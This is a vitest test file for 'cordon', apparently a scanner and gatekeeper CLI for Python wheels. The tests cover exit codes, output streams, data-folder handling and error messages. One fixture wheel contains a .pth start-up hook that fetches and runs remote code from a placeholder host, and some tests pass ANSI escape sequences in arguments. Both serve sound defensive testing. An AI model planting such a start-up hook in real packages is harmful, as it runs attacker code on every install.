// The command as a shell runs it: exit codes, what goes to which stream, and a reader that has seen enough. Needs the build.
import { execFile, spawn } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { controlSocketPath, openControlServer } from '../src/http/control-server.ts';
import { silentLog } from './fakes/silent-log.ts';
import { makeWheel } from './support/make-wheel.ts';

const CLI = fileURLToPath(new URL('../dist/cli.js', import.meta.url));
const folder = mkdtempSync(join(tmpdir(), 'cordon-cli-'));
const at = (name: string): string => join(folder, name);
const GOOD = at('demo-1.0.0-py3-none-any.whl');
const START_UP = at('hook-1.0.0-py3-none-any.whl');

mkdirSync(at('empty'));
writeFileSync(GOOD, makeWheel({ 'demo/__init__.py': 'NAME = "demo"\n' }));
writeFileSync(
  START_UP,
  makeWheel({
    'hook/__init__.py': '',
    'hook.pth': 'import os, urllib.request; exec(urllib.request.urlopen("https://stage.invalid/x").read())\n',
  }),
);

afterAll(() => rmSync(folder, { recursive: true }));

interface Ran {
  readonly code: number;
  readonly out: string;
  readonly err: string;
}

function cordon(args: readonly string[], input = ''): Promise<Ran> {
  return new Promise((resolve) => {
    const env = { ...process.env, NO_COLOR: '1', CORDON_DATA_FOLDER: at('data') };
    const child = execFile(
      process.execPath,
      [CLI, ...args],
      { cwd: folder, env, timeout: 15_000, killSignal: 'SIGKILL' },
      (error, out, err) => {
        resolve({ code: error === null ? 0 : Number(error.code ?? -1), out, err });
      },
    );
    child.stdin?.end(input);
  });
}

const linesOf = (text: string): unknown[] =>
  text
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line) as unknown);

const withPassword = (): string => {
  const settings = at('with-password.yaml');
  const upstream = '{ id: own, url: "https://own.invalid/simple/", username: ci, passwordEnv: OWN_SECRET }';
  writeFileSync(settings, `upstreams: [${upstream}]\nfeeds: { osv: { enabled: false } }\n`);
  return settings;
};

test('who administers a data folder without a server needs no password, until the upstream itself is asked', async () => {
  const settings = withPassword();
  const own = ['--config', settings, '--data-folder', at('own-data')];
  const done = ['deny six', 'list', 'who six', 'verify'];

  for (const command of done) {
    const ran = await cordon([...command.split(' '), ...own]);

    expect(ran.err, command).toBe('');
    expect(ran.code, command).toBe(command.startsWith('who') ? 1 : 0);
  }
  const asked = await cordon(['explain', 'nobody-has-asked', ...own]);
  expect(asked.code).toBe(2);
  expect(asked.err).toContain('the environment variable OWN_SECRET is not set');
}, 60_000);

test('a command that asks no upstream needs no password of one', async () => {
  const settings = withPassword();

  const scanned = await cordon(['scan', '--config', settings, GOOD]);
  const served = await cordon(['serve', '--config', settings]);

  expect(scanned).toMatchObject({ code: 0, err: '' });
  expect(served).toMatchObject({ code: 2, err: expect.stringContaining('OWN_SECRET is not set') as string });
});

// mkdir says ENOENT below /proc although /proc is there
test.skipIf(!existsSync('/proc/self'))(
  'a data folder that cannot be made stops the start, with what to do',
  async () => {
    const ran = await cordon(['serve', '--data-folder', '/proc/nowhere/data']);

    expect(ran).toMatchObject({ code: 2, out: '' });
    expect(ran.err).toContain('/proc/nowhere/data cannot be used: no folder can be made in /proc');
    expect(ran.err).toContain('--data-folder');
  },
);

describe('cordon scan', () => {
  test('exits 0 when all is allowed, with one JSON object a line', async () => {
    const ran = await cordon(['scan', '--json', GOOD]);

    expect(ran.code).toBe(0);
    expect(linesOf(ran.out)).toMatchObject([
      { file: GOOD, verdict: 'allow', sha256: expect.stringMatching(/^[0-9a-f]{64}$/) as string },
    ]);
  });

  test('exits 1 when something is not allowed, and goes on', async () => {
    const ran = await cordon(['scan', '--json', START_UP, GOOD]);

    expect(ran.code).toBe(1);
    expect(linesOf(ran.out)).toHaveLength(2);
    expect(ran.err).toBe('');
  });

  test('exits 2 for a file that cannot be had, scans the others, and says so on standard error', async () => {
    const ran = await cordon(['scan', '--json', at('none.whl'), GOOD]);

    expect(ran.code).toBe(2);
    expect(linesOf(ran.out)).toMatchObject([{ file: GOOD }]);
    expect(linesOf(ran.err)).toEqual([{ file: at('none.whl'), error: { message: 'cannot be read: ENOENT' } }]);
  });

  test('a folder without distribution files is a wrong call, not a success', async () => {
    const ran = await cordon(['scan', at('empty')]);

    expect(ran.code).toBe(2);
    expect(ran.err).toContain('there is no distribution file');
  });

  test('paths that end with NUL are read by --null, and named as the cure without it', async () => {
    const paths = `${GOOD}\0${START_UP}\0`;

    const read = await cordon(['scan', '--json', '--files-from', '-', '--null'], paths);
    const missed = await cordon(['scan', '--files-from', '-'], paths);

    expect(linesOf(read.out)).toHaveLength(2);
    expect(missed.code).toBe(2);
    expect(missed.out).toContain('--null');
  });

  test('a reader that has seen enough ends it without a stack trace', async () => {
    const child = spawn(process.execPath, [CLI, 'scan', '--json', '--jobs', '1', ...Array<string>(30).fill(GOOD)]);
    let err = '';
    child.stderr.on('data', (chunk: Buffer) => (err += chunk.toString()));
    child.stdout.once('data', () => child.stdout.destroy());

    const code = await new Promise((resolve) => child.once('exit', resolve));

    expect(err).toBe('');
    expect(code).toBe(2);
  });
});

describe('a data folder that is not there', () => {
  const none = at('no-data');

  test.each([
    'status',
    'list',
    'explain six',
    'who six',
    'mode',
    'mode clear',
    'freeze',
    'verify',
    'gc',
    'remove f00',
    'feed clear --reason over',
  ])('is not made by cordon %s, which says so, and what to do', async (command) => {
    const ran = await cordon([...command.split(' '), '--data-folder', none]);

    expect(ran).toMatchObject({ code: 2, out: '' });
    expect(ran.err).toContain(`there is no data folder of Cordon at ${none}`);
    expect(ran.err).toContain('cordon serve');
    expect(existsSync(none)).toBe(false);
  });

  test('is not made by a look at the settings either', async () => {
    const ran = await cordon(['config', 'check', '--data-folder', none]);

    expect(ran).toMatchObject({ code: 0, err: '' });
    expect(existsSync(none)).toBe(false);
  });

  test('is made by an entry, which is there at the first start', async () => {
    const early = at('early-data');

    const denied = await cordon(['deny', 'six', '--data-folder', early]);
    const listed = await cordon(['list', '--json', '--data-folder', early]);

    expect(denied).toMatchObject({ code: 0, err: '' });
    expect(linesOf(listed.out)).toMatchObject([[{ effect: 'deny', scope: { project: 'six' } }]]);
  });
});

describe('an option that a server which answers does not follow', () => {
  const served = at('served-data');
  const here = ['--data-folder', served];
  const elsewhere = ['--url', 'https://pypi.example.com'];
  const asked: string[] = [];
  let server: { close(): Promise<void> } | undefined;

  beforeAll(async () => {
    mkdirSync(served);
    server = await openControlServer(controlSocketPath(served), {
      answer: async ({ path }) => {
        asked.push(path.join('/'));
        return { status: 200, value: [] };
      },
      log: silentLog,
    });
  });
  afterAll(async () => server?.close());

  test.each([
    ['a setting of the running server', [...here, '--set', 'mode=monitor'], '--set mode has no effect'],
    ['settings', [...here, '--set', 'scan.children=1', '--set', 'mode=monitor'], '--set scan.children, --set mode'],
    ['a setting of a server elsewhere', [...elsewhere, '--set', 'dataFolder=x'], '--set dataFolder has no effect'],
    ['a folder beside a server elsewhere', [...elsewhere, ...here], '--data-folder has no effect'],
    ['a settings file beside a server elsewhere', [...elsewhere, '--config', 'x.yaml'], '--config has no effect'],
  ])('is a wrong call: %s', async (_case, options, message) => {
    const ran = await cordon(['list', ...options]);

    expect(ran).toMatchObject({ code: 2, out: '' });
    expect(ran.err).toContain(message);
    expect(asked).toEqual([]);
  });

  test('what leads to the server is followed', async () => {
    const byFlag = await cordon(['list', '--json', ...here]);
    const bySetting = await cordon(['list', '--json', '--set', `dataFolder=${served}`]);

    expect([byFlag, bySetting]).toMatchObject([{ code: 0 }, { code: 0 }]);
    expect(asked).toEqual(['entries', 'entries']);
  });
});

describe('failures', () => {
  beforeAll(() => cordon(['deny', 'nobody-has-this']));

  test.each([
    ['a version that is none', ['deny', 'six==\u001b[31m']],
    ['an option that is none', ['status', '--\u001b[31m']],
    ['a file that is not there', ['list', '--config', '\u001b[31m']],
  ])('%s is shown with its control characters, not obeyed', async (_case, args) => {
    const ran = await cordon(args);

    expect(ran.code).toBe(2);
    expect(ran.err).toContain('[31m');
    expect(ran.err).not.toContain('\u001b');
  });

  test.each([
    ['a wrong option', ['status', '--json', '--colour'], 2, 'unknown option'],
    ['a setting that does not exist', ['config', 'check', '--json', '--set', 'listen.prot=1'], 2, 'listen.port'],
    ['a project that nobody knows', ['remove', '--json', 'f00'], 1, 'there is no entry f00'],
    ['an entry without a reason', ['allow', '--json', 'six'], 2, '--reason'],
  ])('%s is JSON on standard error where JSON was asked for', async (_case, args, code, message) => {
    const ran = await cordon(args);

    expect(ran.code).toBe(code);
    expect(ran.out).toBe('');
    expect(linesOf(ran.err)).toMatchObject([{ error: { message: expect.stringContaining(message) as string } }]);
  });

  test('are one plain line otherwise', async () => {
    const ran = await cordon(['remove', 'f00']);

    expect(ran).toEqual({ code: 1, out: '', err: 'cordon: there is no entry f00\n' });
  });
});
